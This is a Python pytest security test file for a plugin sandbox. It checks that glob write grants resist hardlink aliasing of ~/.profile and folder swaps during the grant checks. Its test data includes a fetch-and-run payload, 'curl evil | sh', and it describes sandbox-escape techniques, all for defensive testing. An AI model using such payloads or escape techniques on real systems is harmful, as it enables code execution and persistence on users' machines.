"""attack35: attack34's open glob row, a match that gets a second name after enable.

A glob grants only regular files with one name (glob32): a file with another name is
content the pattern does not name, and a write glob would rewrite it there. The rule
was judged at enable only. Afterwards, whoever owns a match (or a deduplicating tool,
``hardlink``, ``rdfind -makehardlinks``, ``jdupes -L``, replacing a file of the same
content by a link to the match) gave the matched inode a second name, ``~/.profile``;
the next worker start bound the same inode, so ``fs.write:OUT/*.json`` rewrote the
profile. Each start now insists that a glob's match still has one name.
"""

from __future__ import annotations

import errno
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from caplet import PluginHost
from caplet._errors import CapletError
from caplet._sandbox._sandboxed import SandboxLauncher
from tests._host.ctxkit import make_host
from tests.conftest import PluginFactory, give_to_worker

TOOLS = """
import os
import shutil

def create_functions(config):
    def write(path, text):
        try:
            with open(path, "w") as handle:
                handle.write(text)
            return True
        except OSError as exc:
            return {"errno": exc.errno}

    def link(source, name):
        try:
            os.link(source, name)
            return True
        except OSError as exc:
            return {"errno": exc.errno}

    def crash():
        os._exit(3)

    return {"tools": {"write": write, "link": link, "crash": crash}}
"""

_PROFILE = "export PATH=/usr/bin:/bin\n"


def _writer(make_plugin: PluginFactory, *capabilities: str) -> None:
    listed = ", ".join(f'"{capability}"' for capability in capabilities)
    make_plugin(
        "writer",
        source=TOOLS,
        extra=f"capabilities = [{listed}]\n",
        modules='[modules.tools]\nfunctions = ["write", "link", "crash"]\n',
    )


@pytest.fixture
def host(plugins_dir: Path, state_dir: Path, launcher: SandboxLauncher) -> Iterator[PluginHost]:
    with make_host(plugins_dir, state_dir, launcher) as made:
        yield made


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """A folder of JSON outputs the worker may write, and a profile outside it."""
    path = tmp_path / "out"
    path.mkdir()
    (path / "a.json").write_text("{}", encoding="utf-8")
    (path / "b.json").write_text("{}", encoding="utf-8")
    give_to_worker(path)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".profile").write_text(_PROFILE, encoding="utf-8")
    return path


def _restart(host: PluginHost) -> None:
    """The worker ends; the next call starts another (a crash, an update, a new host)."""
    with pytest.raises(CapletError):
        host.call("writer", "tools.crash")


@pytest.mark.security
def test_a_match_that_gets_a_second_name_after_enable_is_not_bound_again(
    host: PluginHost, make_plugin: PluginFactory, out: Path, tmp_path: Path
) -> None:
    _writer(make_plugin, f"fs.write:{out}/*.json")
    host.discover()
    assert host.enable("writer", consent=True)
    assert host.call("writer", "tools.write", f"{out}/a.json", '{"n": 1}') is True
    # A deduplicating tool finds ~/.profile and a.json alike and keeps one inode: the
    # profile becomes a second name of the match (the plugin wrote the same content).
    profile = tmp_path / "home" / ".profile"
    (out / "a.json").write_text(_PROFILE, encoding="utf-8")
    profile.unlink()
    os.link(out / "a.json", profile)
    _restart(host)
    # The next start must not bind the match: its content has a name the glob does
    # not match (main bound it, and the plugin rewrote the profile).
    with pytest.raises(CapletError) as info:
        host.call("writer", "tools.write", f"{out}/a.json", "curl evil | sh\n")
    assert profile.read_text(encoding="utf-8") == _PROFILE
    message = str(info.value)
    assert "has 2 names" in message, message
    assert "enable the plugin again" in message, message
    # Enabled again, the match is left out and said; the other match is granted.
    assert host.disable("writer")
    assert host.enable("writer", consent=True)
    answer = host.call("writer", "tools.write", f"{out}/a.json", "curl evil | sh\n")
    assert isinstance(answer, dict), answer
    assert answer["errno"] in (errno.ENOENT, errno.EACCES, errno.EROFS, errno.EPERM)
    assert profile.read_text(encoding="utf-8") == _PROFILE
    assert host.call("writer", "tools.write", f"{out}/b.json", '{"n": 2}') is True


@pytest.mark.security
def test_near_miss_a_match_with_one_name_is_bound_again_at_every_start(
    host: PluginHost, make_plugin: PluginFactory, out: Path
) -> None:
    _writer(make_plugin, f"fs.write:{out}/*.json")
    host.discover()
    assert host.enable("writer", consent=True)
    assert host.call("writer", "tools.write", f"{out}/a.json", '{"n": 1}') is True
    # A link made and removed again between two starts leaves one name: bound as before.
    os.link(out / "a.json", out / "a.bak")
    (out / "a.bak").unlink()
    _restart(host)
    assert host.call("writer", "tools.write", f"{out}/a.json", '{"n": 2}') is True
    assert (out / "a.json").read_text(encoding="utf-8") == '{"n": 2}'


@pytest.mark.security
def test_held_the_plugin_cannot_give_a_match_a_second_name_itself(
    host: PluginHost, make_plugin: PluginFactory, out: Path, tmp_path: Path
) -> None:
    # A folder it may write beside the glob: a link from a match into it (or from the
    # folder to a new matching name) would be a second name the plugin made.
    work = tmp_path / "work"
    work.mkdir()
    give_to_worker(work)
    _writer(make_plugin, f"fs.write:{out}/*.json", f"fs.write:{work}")
    host.discover()
    assert host.enable("writer", consent=True)
    outward = host.call("writer", "tools.link", f"{out}/a.json", f"{work}/a.json")
    inward = host.call("writer", "tools.link", f"{work}/../out/a.json", f"{out}/c.json")
    # Each match is a mount of its own in the jail (link(2) across mounts is EXDEV), and
    # its folder the jail's read-only listing (EROFS).
    for answer in (outward, inward):
        assert isinstance(answer, dict), answer
        assert answer["errno"] in (
            errno.EXDEV,
            errno.EROFS,
            errno.ENOENT,
            errno.EACCES,
            errno.EPERM,
        )
    assert (out / "a.json").stat().st_nlink == 1
    assert not (work / "a.json").exists()
    assert host.call("writer", "tools.write", f"{work}/notes.txt", "ok") is True


READER = """
def create_functions(config):
    def read(path):
        try:
            with open(path, "rb") as handle:
                return handle.read().decode("latin-1")
        except OSError as exc:
            return {"errno": exc.errno}

    return {"tools": {"read": read}}
"""


def _reader(make_plugin: PluginFactory, capability: str) -> None:
    make_plugin(
        "reader",
        source=READER,
        extra=f'capabilities = ["{capability}"]\n',
        modules='[modules.tools]\nfunctions = ["read"]\n',
    )


@pytest.fixture
def projects(tmp_path: Path) -> Path:
    """A shared folder of projects: one keeps its caplet state (CAPLET_STATE_DIR per
    project, ``caplet.db`` its marker) in ``p1/state``, whose database the plugin
    must never read; ``p2`` keeps a report there."""
    root = tmp_path / "projects"
    (root / "p1" / "state").mkdir(parents=True)
    (root / "p1" / "state" / "caplet.db").write_bytes(b"SQLite format 3\x00 approvals")
    (root / "p2" / "state").mkdir(parents=True)
    (root / "p2" / "state" / "report.db").write_bytes(b"report")
    give_to_worker(root)
    return root


def _swap_during_the_checks(
    monkeypatch: pytest.MonkeyPatch, folder: Path, decoy: Callable[[Path], None]
) -> None:
    """Whoever may write ``folder``'s parent moves it aside right after the glob's walk,
    puts ``decoy`` at its name while the grants are checked, and moves it back before
    the worker starts (a race made deterministic: the swaps run at the window's edges)."""
    from caplet._host import _grant_check, _manager_enable

    walked = _grant_check.expand_glob  # type: ignore[attr-defined]
    planned = _manager_enable.plan_grants  # type: ignore[attr-defined]
    aside = folder.with_name(folder.name + ".aside")

    def expand_then_swap(*args: Any, **kwargs: Any) -> Any:
        expanded = walked(*args, **kwargs)
        folder.rename(aside)
        folder.mkdir()
        decoy(folder)
        return expanded

    def plan_then_swap_back(*args: Any, **kwargs: Any) -> Any:
        try:
            return planned(*args, **kwargs)
        finally:
            if aside.exists():
                shutil.rmtree(folder)
                aside.rename(folder)

    monkeypatch.setattr(_grant_check, "expand_glob", expand_then_swap)
    monkeypatch.setattr(_manager_enable, "plan_grants", plan_then_swap_back)


@pytest.mark.security
def test_a_folder_swapped_between_the_walk_and_the_check_is_judged_as_walked(
    host: PluginHost, make_plugin: PluginFactory, projects: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _reader(make_plugin, f"fs.read:{projects}/*/state/*.db")
    host.discover()
    p1 = projects / "p1"
    _swap_during_the_checks(monkeypatch, p1, lambda decoy: (decoy / "state").mkdir())
    outcome = host.enable("reader", consent=True)
    # Moved back before the worker started: the pinned inode is there again.
    assert (p1 / "state" / "caplet.db").exists()
    if outcome:
        answer = host.call("reader", "tools.read", f"{p1}/state/caplet.db")
        pytest.fail(f"enabled: the other state's database read as {answer!r}")
    # Refused: the match is judged with the folder that holds it, reached through
    # descriptors, not with whatever its folder's name leads to now.
    assert f"{p1}/state/caplet.db changed while caplet checked it" in outcome.reason
    assert "try the enable again" in outcome.reason, outcome.reason


@pytest.mark.security
def test_a_glob_over_another_projects_state_is_refused_without_a_swap(
    host: PluginHost, make_plugin: PluginFactory, projects: Path
) -> None:
    _reader(make_plugin, f"fs.read:{projects}/*/state/*.db")
    host.discover()
    outcome = host.enable("reader", consent=True)
    assert not outcome
    assert f"lies inside {projects}/p1/state, a caplet state directory" in outcome.reason


@pytest.mark.security
def test_near_miss_a_glob_over_projects_reads_the_reports_beside_a_state(
    host: PluginHost, make_plugin: PluginFactory, projects: Path
) -> None:
    _reader(make_plugin, f"fs.read:{projects}/p2/state/*.db")
    host.discover()
    assert host.enable("reader", consent=True)
    assert host.call("reader", "tools.read", f"{projects}/p2/state/report.db") == "report"
